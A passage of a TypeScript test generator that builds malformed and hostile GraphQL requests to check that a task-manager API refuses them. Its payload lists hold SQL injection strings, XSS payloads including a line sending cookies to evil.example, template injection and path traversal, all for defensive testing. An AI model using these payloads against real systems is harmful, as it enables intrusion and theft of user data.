import { createHmac } from 'node:crypto';

// A deterministic generator of hostile HTTP requests against /graphql. Every request starts as a valid
// request of one root field of schema.graphql and is then broken in one way (wrong types, huge strings,
// deep nesting, invalid JSON or UTF-8, forged ids, ...). Each request says what a correct server must do
// with it (`expect`), so that the test can tell a refusal from a write and account for every row.
//
// Pure: the same context and seed give byte-for-byte the same requests.

/** A tiny seeded PRNG (mulberry32). */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  int(below: number): number {
    return Math.floor(this.next() * below);
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[this.int(items.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  uuid(): string {
    const hex = Array.from({ length: 32 }, () => this.int(16).toString(16)).join('');
    return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-8${hex.slice(17, 20)}-${hex.slice(20, 32)}`;
  }
}

// ---------------------------------------------------------------------------------------------------
// What the generator knows about the world.

export interface HostileContext {
  /** `listId`: a list of the attacker's own that valid creates put tasks in and valid moves use as an anchor. */
  attacker: { token: string; userId: string; email: string; listId: string };
  /** `listIds`: the victim's lists, `inboxId` among them (to anyone else its id must read as missing, not as an Inbox). */
  victim: { userId: string; email: string; taskIds: string[]; tagIds: string[]; listIds: string[]; inboxId: string; reminderIds: string[]; webhookIds: string[] };
  /** The attacker's own task, tag and list that only invalid requests ever target: they must not change. */
  decoy: { taskId: string; tagId: string; listId: string; reminderId: string; webhookId: string };
  /** The attacker's own tasks, tags and lists, each the target of at most one update that may succeed. */
  sandbox: { taskIds: string[]; tagIds: string[]; listIds: string[] };
  /** A real cursor of one of the attacker's tasks (its id inside is forged into other cursors). */
  cursor: string;
}

/** What a correct server does with a request. */
export type Expectation = 'success' | 'failure' | 'either';

/** How a request's arguments stand against the contract. */
type Verdict = 'valid' | 'invalid' | 'foreign' | 'unknown';

export type WriteKind =
  | 'createTask'
  | 'quickAddTask'
  | 'createTag'
  | 'createList'
  | 'signUp'
  | 'updateMe'
  | 'updateTask'
  | 'updateTasks'
  | 'updateTag'
  | 'updateList'
  | 'moveList';

export interface HostileRequest {
  index: number;
  category: string;
  /** The root field it starts from ("(http)" for requests that are not GraphQL at all). */
  op: string;
  label: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string | Uint8Array;
  expect: Expectation;
  /** Set when a successful answer means a row was written (then the test accounts for it). */
  write?: WriteKind;
  /** For `expect: 'success'` writes: what must be stored and read back, verbatim. */
  stored?: Record<string, unknown>;
  /** The sandbox object an update targets. */
  target?: string;
  /** Send the body as a stream without a content-length (as a chunked HTTP request would arrive). */
  stream?: boolean;
  /** The status a correct server answers (checked on top of everything else). */
  status?: number;
  /**
   * The only error code a correct server answers with: NOT_FOUND for a write that names another
   * user's object, exactly as for a missing one (never "the Inbox cannot be deleted", say).
   */
  code?: 'NOT_FOUND';
}

// ---------------------------------------------------------------------------------------------------
// The schema, as far as the generator needs it. String arguments get a "kind" that says which values
// the contract accepts (a title, an email, a cursor, ...); they are all String or ID in GraphQL.

const KIND_TO_GRAPHQL: Record<string, string> = {
  Title: 'String',
  Description: 'String',
  Key: 'String',
  TagName: 'String',
  ListName: 'String',
  Name: 'String',
  Password: 'String',
  Secret: 'String',
  Email: 'String',
  Color: 'String',
  TimeZone: 'String',
  RRule: 'String',
  Search: 'String',
  Cursor: 'String',
  SyncToken: 'String',
  TaskId: 'ID',
  TagId: 'ID',
  ListId: 'ID',
  ReminderId: 'ID',
  WebhookId: 'ID',
  NodeId: 'ID',
  Url: 'String',
  EventName: 'String',
};
const STRING_KINDS = new Set(Object.keys(KIND_TO_GRAPHQL));
const ID_KINDS = new Set(['TaskId', 'TagId', 'ListId', 'ReminderId', 'WebhookId', 'NodeId']);
const ENUMS: Record<string, string[]> = {
  Priority: ['NONE', 'LOW', 'MEDIUM', 'HIGH', 'URGENT'],
  TaskOrderField: ['DUE_AT', 'PRIORITY', 'CREATED_AT', 'UPDATED_AT', 'TITLE', 'POSITION'],
  OrderDirection: ['ASC', 'DESC'],
};

const INPUTS: Record<string, Record<string, string>> = {
  CreateTaskInput: {
    title: 'Title!',
    description: 'Description',
    priority: 'Priority',
    dueAt: 'DateTime',
    remindAt: 'DateTime',
    recurrence: 'RRule',
    tagIds: '[TagId!]',
    listId: 'ListId',
    parentId: 'TaskId',
    idempotencyKey: 'Key',
  },
  UpdateTaskInput: {
    id: 'TaskId!',
    title: 'Title',
    description: 'Description',
    priority: 'Priority',
    dueAt: 'DateTime',
    remindAt: 'DateTime',
    recurrence: 'RRule',
    tagIds: '[TagId!]',
    expectedVersion: 'Version',
  },
  CreateTagInput: { name: 'TagName!', color: 'Color', idempotencyKey: 'Key' },
  UpdateTagInput: { id: 'TagId!', name: 'TagName', color: 'Color' },
  CreateListInput: { name: 'ListName!', color: 'Color', idempotencyKey: 'Key' },
  UpdateListInput: { id: 'ListId!', name: 'ListName', color: 'Color', expectedVersion: 'Version' },
  MoveListInput: { id: 'ListId!', afterId: 'ListId', beforeId: 'ListId' },
  MoveTaskInput: { id: 'TaskId!', listId: 'ListId', parentId: 'TaskId', afterId: 'TaskId', beforeId: 'TaskId', expectedVersion: 'Version' },
  UpdateTasksInput: { ids: '[TaskId!]!', priority: 'Priority', dueAt: 'DateTime', addTagIds: '[TagId!]', removeTagIds: '[TagId!]' },
  MoveTasksInput: { ids: '[TaskId!]!', listId: 'ListId!', parentId: 'TaskId' },
  QuickAddInput: { text: 'Title!', listId: 'ListId', idempotencyKey: 'Key' },
  AddReminderInput: { taskId: 'TaskId!', at: 'DateTime', idempotencyKey: 'Key' },
  SignUpInput: { email: 'Email!', password: 'Password!', name: 'Name', timeZone: 'TimeZone' },
  SignInInput: { email: 'Email!', password: 'Secret!' },
  UpdateMeInput: { name: 'Name', timeZone: 'TimeZone' },
  DeleteAccountInput: { password: 'Secret' },
  CreateWebhookInput: { url: 'Url!', events: '[EventName!]!' },
  UpdateWebhookInput: { id: 'WebhookId!', url: 'Url', events: '[EventName!]', active: 'Boolean' },
  TaskFilter: {
    completed: 'Boolean',
    priorityIn: '[Priority!]',
    tagIds: '[TagId!]',
    dueBefore: 'DateTime',
    dueAfter: 'DateTime',
    overdue: 'Boolean',
    hasDueDate: 'Boolean',
    recurring: 'Boolean',
    search: 'Search',
    listIds: '[ListId!]',
    parentId: 'TaskId',
    topLevel: 'Boolean',
  },
  TaskOrder: { field: 'TaskOrderField!', direction: 'OrderDirection!' },
};

const isNonNull = (type: string) => type.endsWith('!');
const nullable = (type: string) => (isNonNull(type) ? type.slice(0, -1) : type);
const isList = (type: string) => nullable(type).startsWith('[');
const itemOf = (type: string) => nullable(type).slice(1, -1);
const named = (type: string): string => (isList(type) ? named(itemOf(type)) : nullable(type));
/** The GraphQL spelling of a generator type ("[TagId!]" -> "[ID!]", "Version" -> "Int"). */
const graphqlType = (type: string): string =>
  type.replace(/[A-Za-z]+/g, (name) => KIND_TO_GRAPHQL[name] ?? (name === 'Version' || name === 'PageSize' ? 'Int' : name));

type Target = 'victim' | 'decoy' | 'sandbox';
type Returns = 'Task' | 'Tag' | 'List' | 'User' | 'Payload' | 'Auth' | 'Connection' | 'Node' | 'Webhook' | 'Scalar';

interface OpSpec {
  field: string;
  operation: 'query' | 'mutation' | 'subscription';
  /** Variable name -> generator type. */
  vars: Record<string, string>;
  /** The field with its arguments, using the variables. */
  call: string;
  selection: string;
  returns: Returns;
  /** always: a valid request writes; sandbox: it writes when it targets a sandbox object; never. */
  writes: 'always' | 'sandbox' | 'never';
  /** With writes: 'sandbox': the kind of sandbox object a valid request targets (each object at most once). */
  sandbox?: 'task' | 'tag' | 'list';
  /**
   * Id lists where the contract ignores a missing id instead of refusing it (removeTagIds: taking off
   * a tag the tasks do not carry changes nothing). Another user's id there must be ignored the same
   * way, so its verdict is 'unknown' rather than 'foreign'.
   */
  lenientIds?: string[];
  /** Input fields of which a request gives at most one: a forged one replaces the others. */
  oneOf?: string[];
  /** Works without a token (signUp, signIn). */
  anonymous?: boolean;
  /** Sent as Server-Sent Events (subscriptions). */
  sse?: boolean;
  /**
   * The valid request; ids are placeholders resolved per target (victim, decoy or sandbox): <<TASK>>,
   * <<TAG>>, <<LIST>>, <<REMINDER>>, <<WEBHOOK>>, <<NODE>>; <<HOME>> is always the attacker's own list (see HostileContext).
   */
  base(n: number): Record<string, unknown>;
}

const TASK_SELECTION = '{ id title description priority dueAt remindAt recurrence completed version tags { id name } }';
const LIST_SELECTION = '{ id name color isInbox archived archivedAt position version }';
/** A list's tasks, with every argument of a task list (new filter fields and POSITION order included). */
const LIST_TASKS =
  'taskCount(completed: $completed) tasks(first: $first, after: $after, filter: $filter, orderBy: $orderBy) { totalCount edges { cursor node { id title position list { id } parent { id } subtaskCount } } pageInfo { hasNextPage endCursor } }';
const LIST_TASKS_VARS = { completed: 'Boolean', first: 'PageSize', after: 'Cursor', filter: 'TaskFilter', orderBy: '[TaskOrder!]' };

const OPS: OpSpec[] = [
  {
    field: 'inbox',
    operation: 'query',
    vars: LIST_TASKS_VARS,
    call: 'inbox',
    selection: `{ id name isInbox archived ${LIST_TASKS} }`,
    returns: 'List',
    writes: 'never',
    base: () => ({
      completed: false,
      first: 5,
      after: null,
      filter: { topLevel: true, listIds: ['<<LIST>>'], search: 'milk', priorityIn: ['LOW'] },
      orderBy: [{ field: 'POSITION', direction: 'ASC' }],
    }),
  },
  {
    field: 'list',
    operation: 'query',
    vars: { id: 'ListId!', ...LIST_TASKS_VARS },
    call: 'list(id: $id)',
    selection: `{ id name color isInbox archived version ${LIST_TASKS} }`,
    returns: 'List',
    writes: 'never',
    base: () => ({
      id: '<<LIST>>',
      completed: true,
      first: 5,
      after: null,
      filter: { parentId: '<<TASK>>', topLevel: false, hasDueDate: false },
      orderBy: [
        { field: 'POSITION', direction: 'DESC' },
        { field: 'TITLE', direction: 'ASC' },
      ],
    }),
  },
  {
    field: 'lists',
    operation: 'query',
    vars: { archived: 'Boolean', completed: 'Boolean', first: 'PageSize', filter: 'TaskFilter' },
    call: 'lists(archived: $archived)',
    selection: '{ id name color isInbox archived archivedAt position version taskCount(completed: $completed) tasks(first: $first, filter: $filter) { totalCount edges { node { id title } } } }',
    returns: 'List',
    writes: 'never',
    base: () => ({ archived: null, completed: false, first: 2, filter: { topLevel: true, listIds: ['<<LIST>>'] } }),
  },
  {
    field: 'me',
    operation: 'query',
    vars: { first: 'PageSize', filter: 'TaskFilter' },
    call: 'me',
    selection: '{ id email name timeZone tags { id name } tasks(first: $first, filter: $filter) { totalCount edges { cursor node { id title } } } }',
    returns: 'User',
    writes: 'never',
    base: () => ({ first: 5, filter: { search: 'milk', dueAfter: '2000-01-01T00:00:00.000Z', completed: false, parentId: '<<TASK>>' } }),
  },
  {
    field: 'node',
    operation: 'query',
    vars: { id: 'NodeId!' },
    call: 'node(id: $id)',
    selection: '{ id __typename ... on Task { title description } ... on Tag { name } ... on List { listName: name isInbox } ... on User { email userName: name } }',
    returns: 'Node',
    writes: 'never',
    base: () => ({ id: '<<NODE>>' }),
  },
  {
    field: 'nodes',
    operation: 'query',
    vars: { ids: '[NodeId!]!' },
    call: 'nodes(ids: $ids)',
    selection: '{ id __typename ... on Task { title } ... on Tag { name } ... on List { listName: name } ... on User { email } }',
    returns: 'Node',
    writes: 'never',
    base: () => ({ ids: ['<<TASK>>', '<<TAG>>', '<<LIST>>', '<<NODE>>'] }),
  },
  {
    field: 'tag',
    operation: 'query',
    vars: { id: 'TagId!', completed: 'Boolean', first: 'PageSize', after: 'Cursor' },
    call: 'tag(id: $id)',
    selection: '{ id name color taskCount(completed: $completed) tasks(first: $first, after: $after) { totalCount edges { cursor node { id title } } } }',
    returns: 'Tag',
    writes: 'never',
    base: () => ({ id: '<<TAG>>', completed: false, first: 5, after: null }),
  },
  {
    field: 'tags',
    operation: 'query',
    vars: { completed: 'Boolean' },
    call: 'tags',
    selection: '{ id name color taskCount(completed: $completed) }',
    returns: 'Tag',
    writes: 'never',
    base: () => ({ completed: true }),
  },
  {
    field: 'task',
    operation: 'query',
    vars: { id: 'TaskId!' },
    call: 'task(id: $id)',
    selection: TASK_SELECTION,
    returns: 'Task',
    writes: 'never',
    base: () => ({ id: '<<TASK>>' }),
  },
  {
    field: 'tasks',
    operation: 'query',
    vars: { first: 'PageSize', after: 'Cursor', last: 'PageSize', before: 'Cursor', filter: 'TaskFilter', orderBy: '[TaskOrder!]' },
    call: 'tasks(first: $first, after: $after, last: $last, before: $before, filter: $filter, orderBy: $orderBy)',
    selection: '{ totalCount edges { cursor node { id title dueAt priority tags { id name } } } pageInfo { hasNextPage hasPreviousPage startCursor endCursor } }',
    returns: 'Connection',
    writes: 'never',
    base: () => ({
      first: 10,
      after: null,
      last: null,
      before: null,
      filter: {
        completed: false,
        priorityIn: ['HIGH', 'LOW'],
        tagIds: ['<<TAG>>'],
        dueBefore: '2040-01-01T00:00:00.000Z',
        dueAfter: '2000-01-01T00:00:00.000Z',
        overdue: false,
        hasDueDate: true,
        recurring: false,
        search: 'milk',
        listIds: ['<<LIST>>'],
        topLevel: true,
      },
      orderBy: [
        { field: 'DUE_AT', direction: 'ASC' },
        { field: 'TITLE', direction: 'DESC' },
        { field: 'POSITION', direction: 'ASC' },
      ],
    }),
  },
  {
    field: 'archiveList',
    operation: 'mutation',
    vars: { id: 'ListId!' },
    call: 'archiveList(id: $id)',
    selection: LIST_SELECTION,
    returns: 'List',
    // A valid request archives the list it names: it only ever names the victim's (NOT_FOUND).
    writes: 'never',
    base: () => ({ id: '<<LIST>>' }),
  },
  {
    field: 'completeTask',
    operation: 'mutation',
    vars: { id: 'TaskId!', expectedVersion: 'Version' },
    call: 'completeTask(id: $id, expectedVersion: $expectedVersion)',
    selection: '{ task { id completed version } nextOccurrence { id dueAt } }',
    returns: 'Payload',
    writes: 'never',
    base: () => ({ id: '<<TASK>>', expectedVersion: 1 }),
  },
  {
    field: 'completeTasks',
    operation: 'mutation',
    vars: { ids: '[TaskId!]!' },
    call: 'completeTasks(ids: $ids)',
    selection: '{ task { id completed version } nextOccurrence { id dueAt } }',
    returns: 'Payload',
    writes: 'never',
    base: () => ({ ids: ['<<TASK>>'] }),
  },
  {
    field: 'createList',
    operation: 'mutation',
    vars: { input: 'CreateListInput!' },
    call: 'createList(input: $input)',
    selection: LIST_SELECTION,
    returns: 'List',
    // Every list it creates is accounted for: the test reads the attacker's lists back.
    writes: 'always',
    base: (n) => ({ input: { name: `List ${n}`, color: '#12ab34', idempotencyKey: `list-key-${n}` } }),
  },
  {
    field: 'createTag',
    operation: 'mutation',
    vars: { input: 'CreateTagInput!' },
    call: 'createTag(input: $input)',
    selection: '{ id name color }',
    returns: 'Tag',
    writes: 'always',
    base: (n) => ({ input: { name: `tag ${n}`, color: '#12ab34', idempotencyKey: `tag-key-${n}` } }),
  },
  {
    field: 'createTask',
    operation: 'mutation',
    vars: { input: 'CreateTaskInput!' },
    call: 'createTask(input: $input)',
    selection: TASK_SELECTION,
    returns: 'Task',
    writes: 'always',
    base: (n) => ({
      input: {
        title: `Task ${n}`,
        description: `Notes ${n}`,
        priority: 'LOW',
        dueAt: '2031-05-06T07:08:09.000Z',
        remindAt: '2031-05-06T06:00:00.000Z',
        recurrence: 'FREQ=WEEKLY;BYDAY=MO',
        tagIds: [],
        listId: '<<HOME>>',
        parentId: null,
        idempotencyKey: `task-key-${n}`,
      },
    }),
  },
  {
    field: 'addReminder',
    operation: 'mutation',
    vars: { input: 'AddReminderInput!' },
    call: 'addReminder(input: $input)',
    selection: '{ id at minutesBefore fireAt sentAt }',
    returns: 'Payload',
    writes: 'never',
    base: () => ({ input: { taskId: '<<TASK>>', at: '2031-01-01T00:00:00.000Z' } }),
  },
  {
    field: 'deleteReminder',
    operation: 'mutation',
    vars: { id: 'ReminderId!' },
    call: 'deleteReminder(id: $id)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ id: '<<REMINDER>>' }),
  },
  {
    field: 'snoozeReminder',
    operation: 'mutation',
    vars: { id: 'ReminderId!', until: 'DateTime!' },
    call: 'snoozeReminder(id: $id, until: $until)',
    selection: '{ id fireAt sentAt }',
    returns: 'Payload',
    writes: 'never',
    base: () => ({ id: '<<REMINDER>>', until: '2031-01-01T00:00:00.000Z' }),
  },
  {
    field: 'quickAddTask',
    operation: 'mutation',
    vars: { input: 'QuickAddInput!' },
    call: 'quickAddTask(input: $input)',
    selection: TASK_SELECTION,
    returns: 'Task',
    writes: 'always',
    base: (n) => ({ input: { text: `Quick ${n} tomorrow 5pm @quick p3`, listId: '<<HOME>>' } }),
  },
  {
    field: 'parseQuickAdd',
    operation: 'query',
    vars: { text: 'Title!' },
    call: 'parseQuickAdd(text: $text)',
    selection: '{ title dueAt dueDate recurrence priority list { id name } tags { id name } newTagNames }',
    returns: 'Payload',
    writes: 'never',
    base: (n) => ({ text: `Plan ${n} every monday #Home @quick !high` }),
  },
  {
    field: 'deleteAccount',
    operation: 'mutation',
    vars: { input: 'DeleteAccountInput!' },
    call: 'deleteAccount(input: $input)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ input: { password: 'definitely not the password' } }),
  },
  {
    field: 'deleteList',
    operation: 'mutation',
    vars: { id: 'ListId!' },
    call: 'deleteList(id: $id)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ id: '<<LIST>>' }),
  },
  {
    field: 'deleteTag',
    operation: 'mutation',
    vars: { id: 'TagId!' },
    call: 'deleteTag(id: $id)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ id: '<<TAG>>' }),
  },
  {
    field: 'deleteTask',
    operation: 'mutation',
    vars: { id: 'TaskId!', expectedVersion: 'Version' },
    call: 'deleteTask(id: $id, expectedVersion: $expectedVersion)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ id: '<<TASK>>', expectedVersion: 1 }),
  },
  {
    field: 'deleteTasks',
    operation: 'mutation',
    vars: { ids: '[TaskId!]!' },
    call: 'deleteTasks(ids: $ids)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ ids: ['<<TASK>>'] }),
  },
  {
    field: 'moveList',
    operation: 'mutation',
    vars: { input: 'MoveListInput!' },
    call: 'moveList(input: $input)',
    selection: LIST_SELECTION,
    returns: 'List',
    // Only a list's position changes: a sandbox list moved right after the attacker's own list.
    writes: 'sandbox',
    sandbox: 'list',
    oneOf: ['afterId', 'beforeId'],
    base: () => ({ input: { id: '<<LIST>>', afterId: '<<HOME>>', beforeId: null } }),
  },
  {
    field: 'moveTask',
    operation: 'mutation',
    vars: { input: 'MoveTaskInput!' },
    call: 'moveTask(input: $input)',
    selection: '{ id position version list { id } parent { id } }',
    returns: 'Task',
    writes: 'never',
    oneOf: ['afterId', 'beforeId'],
    base: () => ({ input: { id: '<<TASK>>', listId: '<<LIST>>', parentId: null, afterId: null, beforeId: null } }),
  },
  {
    field: 'moveTasks',
    operation: 'mutation',
    vars: { input: 'MoveTasksInput!' },
    call: 'moveTasks(input: $input)',
    selection: '{ id position version list { id } parent { id } }',
    returns: 'Task',
    writes: 'never',
    base: () => ({ input: { ids: ['<<TASK>>'], listId: '<<LIST>>', parentId: null } }),
  },
  {
    field: 'setTaskTags',
    operation: 'mutation',
    vars: { taskId: 'TaskId!', tagIds: '[TagId!]!' },
    call: 'setTaskTags(taskId: $taskId, tagIds: $tagIds)',
    selection: '{ id version tags { id name } }',
    returns: 'Task',
    writes: 'never',
    base: () => ({ taskId: '<<TASK>>', tagIds: ['<<TAG>>'] }),
  },
  {
    field: 'signIn',
    operation: 'mutation',
    vars: { input: 'SignInInput!' },
    call: 'signIn(input: $input)',
    selection: '{ token user { id email } }',
    returns: 'Auth',
    writes: 'never',
    anonymous: true,
    base: () => ({ input: { email: '<<ATTACKER_EMAIL>>', password: 'definitely not the password' } }),
  },
  {
    field: 'signUp',
    operation: 'mutation',
    vars: { input: 'SignUpInput!' },
    call: 'signUp(input: $input)',
    selection: '{ token user { id email name timeZone } }',
    returns: 'Auth',
    writes: 'always',
    anonymous: true,
    base: (n) => ({ input: { email: `hostile-${n}@example.com`, password: 'correct horse battery', name: `Hostile ${n}`, timeZone: 'Europe/Berlin' } }),
  },
  {
    field: 'unarchiveList',
    operation: 'mutation',
    vars: { id: 'ListId!' },
    call: 'unarchiveList(id: $id)',
    selection: LIST_SELECTION,
    returns: 'List',
    // Even of an active list it rewrites the row (updated_at): it only ever names the victim's.
    writes: 'never',
    base: () => ({ id: '<<LIST>>' }),
  },
  {
    field: 'skipOccurrence',
    operation: 'mutation',
    vars: { id: 'TaskId!' },
    call: 'skipOccurrence(id: $id)',
    selection: '{ id dueAt dueDate version }',
    returns: 'Task',
    writes: 'never',
    base: () => ({ id: '<<TASK>>' }),
  },
  {
    field: 'uncompleteTask',
    operation: 'mutation',
    vars: { id: 'TaskId!', expectedVersion: 'Version' },
    call: 'uncompleteTask(id: $id, expectedVersion: $expectedVersion)',
    selection: '{ id completed version }',
    returns: 'Task',
    writes: 'never',
    base: () => ({ id: '<<TASK>>', expectedVersion: 1 }),
  },
  {
    field: 'updateMe',
    operation: 'mutation',
    vars: { input: 'UpdateMeInput!' },
    call: 'updateMe(input: $input)',
    selection: '{ id name timeZone }',
    returns: 'User',
    writes: 'always',
    base: (n) => ({ input: { name: `Me ${n}`, timeZone: 'Asia/Tokyo' } }),
  },
  {
    field: 'updateList',
    operation: 'mutation',
    vars: { input: 'UpdateListInput!' },
    call: 'updateList(input: $input)',
    selection: LIST_SELECTION,
    returns: 'List',
    writes: 'sandbox',
    sandbox: 'list',
    base: (n) => ({ input: { id: '<<LIST>>', name: `Relisted ${n}`, color: '#abcdef', expectedVersion: 1 } }),
  },
  {
    field: 'updateTag',
    operation: 'mutation',
    vars: { input: 'UpdateTagInput!' },
    call: 'updateTag(input: $input)',
    selection: '{ id name color }',
    returns: 'Tag',
    writes: 'sandbox',
    sandbox: 'tag',
    base: (n) => ({ input: { id: '<<TAG>>', name: `renamed ${n}`, color: '#abcdef' } }),
  },
  {
    field: 'updateTask',
    operation: 'mutation',
    vars: { input: 'UpdateTaskInput!' },
    call: 'updateTask(input: $input)',
    selection: TASK_SELECTION,
    returns: 'Task',
    writes: 'sandbox',
    sandbox: 'task',
    base: (n) => ({
      input: {
        id: '<<TASK>>',
        title: `Updated ${n}`,
        description: `Changed ${n}`,
        priority: 'HIGH',
        dueAt: '2032-01-01T00:00:00.000Z',
        remindAt: null,
        recurrence: null,
        tagIds: [],
        expectedVersion: 1,
      },
    }),
  },
  {
    field: 'updateTasks',
    operation: 'mutation',
    vars: { input: 'UpdateTasksInput!' },
    call: 'updateTasks(input: $input)',
    selection: '{ id priority dueAt version tags { id name } }',
    returns: 'Task',
    // A sandbox task gets a priority and a due date (neither is accounted for, the title stays); tags
    // are only taken off (one it does not carry), so that no link appears.
    writes: 'sandbox',
    sandbox: 'task',
    lenientIds: ['removeTagIds'],
    base: () => ({ input: { ids: ['<<TASK>>'], priority: 'URGENT', dueAt: '2033-03-03T03:03:03.000Z', addTagIds: [], removeTagIds: ['<<TAG>>'] } }),
  },
  {
    field: 'calendarFeedUrl',
    operation: 'query',
    vars: {},
    call: 'calendarFeedUrl',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({}),
  },
  {
    field: 'enableCalendarFeed',
    operation: 'mutation',
    vars: {},
    call: 'enableCalendarFeed',
    selection: '',
    returns: 'Scalar',
    // The attacker's own feed: made once, then answered again; no task, tag or list is written.
    writes: 'always',
    base: () => ({}),
  },
  {
    field: 'revokeCalendarFeed',
    operation: 'mutation',
    vars: {},
    call: 'revokeCalendarFeed',
    selection: '',
    returns: 'Scalar',
    writes: 'always',
    base: () => ({}),
  },
  {
    field: 'webhooks',
    operation: 'query',
    vars: {},
    call: 'webhooks',
    selection: '{ id url events active createdAt lastDeliveryAt lastStatus failureCount }',
    returns: 'Webhook',
    writes: 'never',
    base: () => ({}),
  },
  {
    field: 'createWebhook',
    operation: 'mutation',
    vars: { input: 'CreateWebhookInput!' },
    call: 'createWebhook(input: $input)',
    selection: '{ secret webhook { id url events active } }',
    returns: 'Webhook',
    // A public address literal (no DNS): never contacted, the test app runs no webhook worker.
    writes: 'always',
    base: () => ({ input: { url: 'https://93.184.216.34/hooks', events: ['task.*', 'list.created'] } }),
  },
  {
    field: 'updateWebhook',
    operation: 'mutation',
    vars: { input: 'UpdateWebhookInput!' },
    call: 'updateWebhook(input: $input)',
    selection: '{ id url events active failureCount }',
    returns: 'Webhook',
    writes: 'never',
    base: () => ({ input: { id: '<<WEBHOOK>>', url: 'https://93.184.216.34/moved', events: ['*'], active: false } }),
  },
  {
    field: 'deleteWebhook',
    operation: 'mutation',
    vars: { id: 'WebhookId!' },
    call: 'deleteWebhook(id: $id)',
    selection: '',
    returns: 'Scalar',
    writes: 'never',
    base: () => ({ id: '<<WEBHOOK>>' }),
  },
  {
    field: 'trash',
    operation: 'query',
    vars: { first: 'PageSize', after: 'Cursor' },
    call: 'trash(first: $first, after: $after)',
    selection: '{ totalCount edges { cursor node { id title deletedAt } } pageInfo { hasNextPage endCursor } }',
    returns: 'Connection',
    writes: 'never',
    base: () => ({ first: 5, after: null }),
  },
  {
    field: 'restoreTask',
    operation: 'mutation',
    vars: { id: 'TaskId!' },
    call: 'restoreTask(id: $id)',
    selection: TASK_SELECTION,
    returns: 'Task',
    writes: 'never',
    base: () => ({ id: '<<TASK>>' }),
  },
  {
    field: 'emptyTrash',
    operation: 'mutation',
    vars: {},
    call: 'emptyTrash',
    selection: '',
    returns: 'Scalar',
    // The attacker's trash: always empty here, so a valid request answers 0 and removes nothing.
    writes: 'always',
    base: () => ({}),
  },
  {
    field: 'changes',
    operation: 'query',
    vars: { syncToken: 'SyncToken', first: 'PageSize' },
    call: 'changes(syncToken: $syncToken, first: $first)',
    selection: '{ changes { kind typename id at node { id ... on Task { title } } } syncToken hasMore }',
    returns: 'Payload',
    writes: 'never',
    base: () => ({ syncToken: null, first: 20 }),
  },
  {
    field: 'changes',
    operation: 'subscription',
    vars: { syncToken: 'SyncToken' },
    call: 'changes(syncToken: $syncToken)',
    selection: '{ change { kind id node { id } } syncToken }',
    returns: 'Payload',
    writes: 'never',
    sse: true,
    base: () => ({ syncToken: null }),
  },
  {
    field: 'reminderDue',
    operation: 'subscription',
    vars: {},
    call: 'reminderDue',
    selection: '{ id title remindAt }',
    returns: 'Task',
    writes: 'never',
    sse: true,
    base: () => ({}),
  },
];

export const ROOT_FIELDS = OPS.map((op) => op.field);

// ---------------------------------------------------------------------------------------------------
// Hostile values.

export const SQL_STRINGS = [
  "'; DROP TABLE tasks; --",
  "%' OR 1=1 --",
  "' OR '1'='1",
  "1; DELETE FROM users WHERE '1'='1",
  '" OR ""="',
  "admin'--",
  "'); TRUNCATE tags CASCADE; --",
  "1' UNION SELECT id, email, password_hash FROM users --",
  "' || pg_sleep(5) || '",
  '$$; DROP TABLE task_tags; $$',
  "\\'; DROP TABLE tasks; --",
  '%_%\\%',
  "x' AND 1=CAST((SELECT current_user) AS int) --",
  "'; UPDATE tasks SET user_id = user_id; --",
];

export const SCRIPT_STRINGS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=alert(1)>',
  'javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  '${7*7} #{7*7} <%= 7*7 %>',
  "</title><script>fetch('//evil.example/'+document.cookie)</script>",
  '<iframe srcdoc="<script>alert(1)</script>">',
  '../../../../etc/passwd',
  '\u202Egnp.exe',
  '{"$gt": ""}',
  '__proto__',
  '<!--#exec cmd="ls"-->',
  '&lt;b&gt;&#x3C;script&#x3E; \u{1F4A9}',
];

const INVALID_DATES = [
  '2020-13-45',
  'yesterday',
  '10000-01-01T00:00:00Z',
  '+010000-01-01T00:00:00.000Z',
  '2020-02-30T00:00:00Z',
  '2020-01-01T25:00:00Z',
  '2020-01-01T00:00:00+25:00',
  '0000-00-00T00:00:00Z',
  '',
  ' ',
  '1e100',
  'NaN',
  '2020-01-01T00:00:00Z; DROP TABLE tasks',
  '275760-09-13T00:00:00.001Z',
];
const EXTREME_DATES = ['9999-12-31T23:59:59.999Z', '0001-01-01T00:00:00Z', '1970-01-01T00:00:00Z', '2030-06-01T00:00:00+14:00', '1900-01-01T00:00:00-12:00'];

const INVALID_ENUMS: unknown[] = ['SOMEDAY', 'high', '', 'HIGH; DROP TABLE tasks', 'URGENT ', 'id', 1, true, ['HIGH'], { value: 'HIGH' }];

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
const b64url = (text: string) => Buffer.from(text, 'utf8').toString('base64url');
const globalId = (type: string, id: string) => b64(`${type}:${id}`);
const rawIdOf = (id: string) => Buffer.from(id, 'base64').toString('utf8').replace(/^[A-Za-z]+:/, '');

const HUGE_100K = 'A'.repeat(100_000);
const HUGE_1M = 'x'.repeat(1_000_000);

// ---------------------------------------------------------------------------------------------------
// Variables: walking, reading and replacing their leaves.

type Path = (string | number)[];
interface Leaf {
  path: Path;
  type: string;
}

function leavesOf(vars: Record<string, unknown>, types: Record<string, string>): Leaf[] {
  const out: Leaf[] = [];
  const walk = (value: unknown, type: string, path: Path) => {
    out.push({ path, type });
